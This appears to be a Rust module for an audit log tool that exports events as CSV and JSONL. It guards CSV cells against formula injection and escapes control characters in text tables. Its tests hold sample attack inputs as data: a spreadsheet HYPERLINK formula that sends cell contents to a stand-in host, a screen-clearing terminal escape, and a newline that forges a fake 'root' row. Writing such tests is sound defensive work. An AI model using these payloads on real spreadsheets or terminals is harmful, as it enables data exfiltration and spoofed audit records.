//! Output hygiene and record formats of audit exports: CSV cells neutralised against formula
//! injection, control characters escaped in text tables, the JSON line of one event.
//!
//! User-supplied text (a typed username, a hostname) is data: it reaches outputs unchanged
//! except where a reader would interpret it (a spreadsheet, a terminal).

use super::{canonical_json, AuditEvent, QueryError, AUDIT_CSV_HEADER};

/// Streamed export formats of the event log.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum ExportFormat {
    /// [`AUDIT_CSV_HEADER`] columns, cells neutralised.
    Csv,
    /// One [`jsonl_line`] per event: verifiable offline.
    Jsonl,
}

impl ExportFormat {
    pub fn parse(s: &str) -> Result<ExportFormat, QueryError> {
        match s {
            "csv" => Ok(ExportFormat::Csv),
            "jsonl" => Ok(ExportFormat::Jsonl),
            other => Err(QueryError::BadFormat(other.to_string(), "csv, jsonl")),
        }
    }

    pub fn as_str(self) -> &'static str {
        match self {
            ExportFormat::Csv => "csv",
            ExportFormat::Jsonl => "jsonl",
        }
    }

    pub fn content_type(self) -> &'static str {
        match self {
            ExportFormat::Csv => "text/csv; charset=utf-8",
            ExportFormat::Jsonl => "application/jsonl; charset=utf-8",
        }
    }
}

/// One page of an export, ready to write: the CSV header first when `first`. Exports are
/// written page by page, so memory stays that of one page whatever the log's size.
pub fn render_page(
    format: ExportFormat,
    events: &[AuditEvent],
    first: bool,
) -> Result<Vec<u8>, csv::Error> {
    match format {
        ExportFormat::Csv => {
            let mut w = csv::Writer::from_writer(Vec::with_capacity(events.len() * 400));
            if first {
                w.write_record(AUDIT_CSV_HEADER)?;
            }
            for e in events {
                write_csv_record(&mut w, e.csv_record())?;
            }
            w.into_inner().map_err(|e| csv::Error::from(e.into_error()))
        }
        ExportFormat::Jsonl => {
            let mut out = Vec::with_capacity(events.len() * 400);
            for e in events {
                out.extend_from_slice(jsonl_line(e).as_bytes());
                out.push(b'\n');
            }
            Ok(out)
        }
    }
}

/// A CSV cell made inert for spreadsheets (OWASP "CSV injection"): a cell starting with `=`,
/// `+`, `-`, `@`, tab or carriage return gets a leading `'`. Everything else is unchanged.
pub fn neutralise_csv_cell(cell: &str) -> std::borrow::Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}").into(),
        _ => cell.into(),
    }
}

/// Text for a terminal or a plain-text table: CR, LF, tab, backslash and every other control
/// character written as an escape (`\r`, `\n`, `\t`, `\\`, `\u{1b}`), so one record stays on one
/// line and cannot move the cursor or fake another line.
pub fn escape_text(s: &str) -> std::borrow::Cow<'_, str> {
    if !s.chars().any(|c| c.is_control() || c == '\\') {
        return s.into();
    }
    let mut out = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        match c {
            '\r' => out.push_str("\\r"),
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            '\\' => out.push_str("\\\\"),
            c if c.is_control() => out.push_str(&format!("\\u{{{:x}}}", u32::from(c))),
            c => out.push(c),
        }
    }
    out.into()
}

/// A left-aligned plain-text table (two spaces between columns), every cell escaped with
/// [`escape_text`]. One line per row, `\n`-terminated.
pub fn text_table<R: AsRef<[String]>>(header: &[&str], rows: &[R]) -> String {
    let rows: Vec<Vec<String>> = rows
        .iter()
        .map(|r| {
            r.as_ref()
                .iter()
                .map(|c| escape_text(c).into_owned())
                .collect()
        })
        .collect();
    let mut widths: Vec<usize> = header.iter().map(|h| h.chars().count()).collect();
    for r in &rows {
        for (w, cell) in widths.iter_mut().zip(r) {
            *w = (*w).max(cell.chars().count());
        }
    }
    let mut out = String::new();
    let mut line = |cells: &mut dyn Iterator<Item = &str>| {
        let mut first = true;
        let mut pending = String::new();
        for (cell, w) in cells.zip(&widths) {
            if !first {
                out.push_str(&pending);
                out.push_str("  ");
            }
            first = false;
            out.push_str(cell);
            pending = " ".repeat(w.saturating_sub(cell.chars().count()));
        }
        out.push('\n');
    };
    line(&mut header.iter().copied());
    for r in &rows {
        line(&mut r.iter().map(String::as_str));
    }
    out
}

/// Writes one CSV record with every cell neutralised ([`neutralise_csv_cell`]).
pub fn write_csv_record<W: std::io::Write, S: AsRef<str>>(
    w: &mut csv::Writer<W>,
    cells: impl IntoIterator<Item = S>,
) -> Result<(), csv::Error> {
    w.write_record(
        cells
            .into_iter()
            .map(|c| neutralise_csv_cell(c.as_ref()).into_owned()),
    )
}

/// One event as a JSON line (canonical JSON, no newline): exactly the stored, hashed fields,
/// ts in RFC 3339 UTC with milliseconds. Never neutralised: offline verification re-hashes it.
pub fn jsonl_line(e: &AuditEvent) -> String {
    canonical_json(&serde_json::json!({
        "id": e.id,
        "ts": crate::time::format(e.ts),
        "actor": e.actor,
        "action": e.action,
        "target": e.target,
        "outcome": e.outcome.as_str(),
        "source_ip": e.source_ip,
        "details": e.details,
        "prev_hash": e.prev_hash,
        "hash": e.hash,
    }))
}

/// CSV document of `header` + `rows`, every cell neutralised.
pub fn csv_document<const N: usize>(
    header: [&str; N],
    rows: impl IntoIterator<Item = [String; N]>,
) -> Result<Vec<u8>, csv::Error> {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(header)?;
    for r in rows {
        write_csv_record(&mut w, r)?;
    }
    w.into_inner().map_err(|e| csv::Error::from(e.into_error()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_neutralised_and_others_kept() {
        for (cell, want) in [
            (
                "=HYPERLINK(\"https://x/?\"&A2;\"x\")",
                "'=HYPERLINK(\"https://x/?\"&A2;\"x\")",
            ),
            ("+33 1 23", "'+33 1 23"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tcmd", "'\tcmd"),
            ("\rcmd", "'\rcmd"),
            ("alice", "alice"),
            ("", ""),
            ("a=b", "a=b"),
            ("{\"k\":1}", "{\"k\":1}"),
        ] {
            assert_eq!(neutralise_csv_cell(cell), want, "{cell:?}");
        }
    }

    #[test]
    fn control_characters_are_escaped_for_text() {
        assert_eq!(escape_text("pc-marie"), "pc-marie");
        assert_eq!(
            escape_text("a\r\nb\tc\\d\u{1b}[2Je"),
            "a\\r\\nb\\tc\\\\d\\u{1b}[2Je"
        );
    }

    #[test]
    fn tables_align_and_stay_one_line_per_row() {
        let rows = vec![
            vec!["1".to_string(), "alice\nFAKE 2 root".to_string()],
            vec!["10".to_string(), "bob".to_string()],
        ];
        let t = text_table(&["ID", "USER"], &rows);
        assert_eq!(t, "ID  USER\n1   alice\\nFAKE 2 root\n10  bob\n");
    }
}
